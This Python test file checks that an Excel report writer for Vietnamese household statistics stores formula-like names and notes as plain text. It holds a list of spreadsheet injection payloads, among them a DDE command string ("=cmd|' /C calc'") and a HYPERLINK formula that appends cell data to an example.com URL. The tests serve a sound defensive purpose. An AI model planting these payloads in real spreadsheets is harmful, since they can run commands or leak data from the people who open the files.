"""Report tables in Excel: every text is text, whatever it begins with.

A group or a ward named "=HYPERLINK(…)", a heading or a note beginning with "+", "-", "@":
written as text cells (never a formula, never a quote added), read back as the same strings.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from reports.city_summary import city_tables
from reports.data import city_summary_data, ward_summary_data
from reports.document import Column, Percent, TableData
from reports.excel import write_tables
from reports.ward_summary import ward_tables
from storage.household_import import read_file
from storage.store import Store

DANGEROUS = ['=HYPERLINK("http://example.com/?"&A1,"Bấm")', "=1+1", "+84 912", "-5",
             "@SUM(A1:A9)", "\t=SUM(A1)", "\r=1", "#N/A", "_x0041_", "=cmd|' /C calc'!A0"]


@pytest.fixture
def demo(tmp_path: Path, demo_path: Path) -> Iterator[Store]:
    copy = tmp_path / "demo.sqlite"
    shutil.copy(demo_path, copy)
    with Store(copy, actor="test") as opened:
        yield opened


def text_cells(path: Path) -> dict[str, list[str]]:
    """Every text of every sheet (escapes decoded as Excel does); no cell may be a formula
    or an error."""
    book = load_workbook(path)
    texts: dict[str, list[str]] = {}
    for sheet in book.worksheets:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == [], \
            sheet.title
        texts[sheet.title] = [unescape(cell.value) for cell in cells
                              if isinstance(cell.value, str)]
    return texts


def test_every_text_of_a_table_is_text(tmp_path: Path) -> None:
    table = TableData(
        caption="=Bảng thử",
        columns=(Column(DANGEROUS[0]), Column("+Số hộ", "int"), Column("-Tỷ lệ", "percent")),
        rows=[(text, 5, Percent(1, 2)) for text in DANGEROUS],
        total=("=Tổng", 50, Percent(10, 20)),
        sheet="=Thử",
        notes=[f"{text} ghi chú" for text in DANGEROUS])
    path = tmp_path / "bang.xlsx"
    write_tables([table], path)
    texts = text_cells(path)
    assert texts["=Thử"] == [DANGEROUS[0], "+Số hộ", "-Tỷ lệ", *DANGEROUS, "=Tổng",
                             *(f"{text} ghi chú" for text in DANGEROUS)]
    # The numbers stay numbers.
    sheet = load_workbook(path)["=Thử"]
    assert sheet["B2"].value == 5 and sheet["C2"].value == 0.5
    # The importer's reader gets the exact strings back.
    assert [row[0] for row in read_file(path).rows[1:1 + len(DANGEROUS)]] == DANGEROUS


def test_reports_of_groups_and_wards_named_like_formulas(tmp_path: Path, demo: Store) -> None:
    city = demo.units.city()
    ward = demo.units.add("phuong", "=HYPERLINK(\"http://x\",\"Phường\")", city.id, 2020)
    names = [demo.units.add("tdp", f"{text} Tổ", ward.id, 2020).name for text in DANGEROUS]
    assert {name[:1] for name in names} >= {"=", "+", "-", "@", "#"}
    path = tmp_path / "phuong.xlsx"
    write_tables(ward_tables(ward_summary_data(demo, 2024, ward.id)), path)
    texts = [text for sheet in text_cells(path).values() for text in sheet]
    assert set(names) <= set(texts)
    city_path = tmp_path / "thanh_pho.xlsx"
    write_tables(city_tables(city_summary_data(demo, 2024)), city_path)
    assert ward.name in [text for sheet in text_cells(city_path).values() for text in sheet]
